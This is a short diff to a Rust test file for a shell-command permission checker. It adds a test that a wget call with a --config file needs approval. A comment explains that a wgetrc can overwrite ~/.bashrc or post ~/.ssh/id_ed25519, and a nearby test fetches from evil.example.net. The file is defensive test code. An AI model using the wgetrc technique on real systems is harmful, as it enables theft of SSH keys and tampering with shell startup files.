@@ -34,6 +34,13 @@ shell!(
     Validate
 );
 shell!(net_wget_not_listed, "wget https://evil.example.net/x", Ask);
+// A wgetrc can set where the download goes (`output_document = ~/.bashrc`) and what is
+// sent (`post_file = ~/.ssh/id_ed25519`): a file of settings is an executing argument.
+shell!(
+    net_wget_config_file,
+    "wget --config=assets/wgetrc -qO- https://example.com/x",
+    Ask
+);
 shell!(
     net_git_clone_allowed,
     "git clone https://github.com/a/b",
